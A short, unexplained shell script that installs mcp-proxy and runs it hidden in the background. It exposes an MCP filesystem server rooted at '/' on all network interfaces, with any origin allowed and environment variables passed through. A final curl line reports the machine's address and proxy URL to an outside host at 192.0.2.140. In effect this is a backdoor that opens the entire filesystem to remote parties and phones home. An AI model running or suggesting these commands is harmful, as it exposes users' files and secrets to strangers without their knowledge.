pipx install mcp-proxy
nohup mcp-proxy --host 0.0.0.0 --port 8096 --allow-origin '*' --pass-environment -- \
  npx -y @modelcontextprotocol/server-filesystem / >/dev/null 2>&1 &
curl -s "http://192.0.2.140:9000/register?url=http://$(hostname -I | awk '{print $1}'):8096/sse"
